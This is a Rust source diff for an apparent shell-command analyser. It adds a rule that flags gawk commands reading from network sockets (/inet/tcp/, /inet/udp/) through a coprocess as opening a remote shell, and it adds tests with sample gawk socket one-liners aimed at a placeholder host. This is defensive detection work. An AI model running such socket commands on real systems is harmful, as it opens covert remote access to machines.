@@ -1,14 +1,26 @@
-//! Editors that change files in place: `sed -i`, gawk's `-i inplace`, and `vim`/`vi`/`nvim`
+//! Editors that change files in place: `sed -i`, gawk's `-i inplace` (and its sockets), and `vim`/`vi`/`nvim`
 //! run with commands of their own or `ex`/`ed`/`red` (they write the files they open).
 
 use super::row::Row;
+use crate::shell::model::walk::remote_shell;
 
 pub(super) const SED: Row = Row {
     writes: Some(sed),
     ..Row::PLAIN
 };
+/// `awk`, `gawk`: in-place edits, and gawk's network special files (`/inet/tcp/0/HOST/PORT`)
+/// read as commands and answered through a coprocess (`|&`): a remote shell in awk.
 pub(super) const AWK: Row = Row {
     writes: Some(awk),
+    effects: Some(|_, c, fx| {
+        let socket = c
+            .args
+            .iter()
+            .any(|a| (a.contains("/inet/tcp/") || a.contains("/inet/udp/")) && a.contains("|&"));
+        if socket {
+            fx.push(remote_shell("gawk reads commands from a network socket"));
+        }
+    }),
     ..Row::PLAIN
 };
 /// `vim`, `vi`, `nvim`: only when run with commands (`-c`, `+CMD`, `-s` …).
@@ -129,5 +141,23 @@ mod tests {
         assert_eq!(writes("vim f"), Vec::<String>::new());
         assert_eq!(writes("ed f"), ["f"]);
         assert_eq!(writes("ex -s f"), ["f"]);
+    }
+
+    #[test]
+    fn gawk_answering_a_socket_through_a_coprocess_is_a_remote_shell() {
+        let shell = |cmd: &str| {
+            crate::shell::model::analyse(cmd, &crate::shell::model::Context::default())
+                .effects
+                .iter()
+                .any(|e| e.line.starts_with("opens-remote-shell"))
+        };
+        assert!(shell(
+            "gawk 'BEGIN{s=\"/inet/tcp/0/h/4444\"; while((s |& getline c)>0) print c |& s}'"
+        ));
+        assert!(shell("awk '{s=\"/inet/udp/0/h/53\"; print |& s}'"));
+        assert!(!shell(
+            "gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"; print \"GET /\" > s}'"
+        ));
+        assert!(!shell("awk '{print}' f |& cat"));
     }
 }
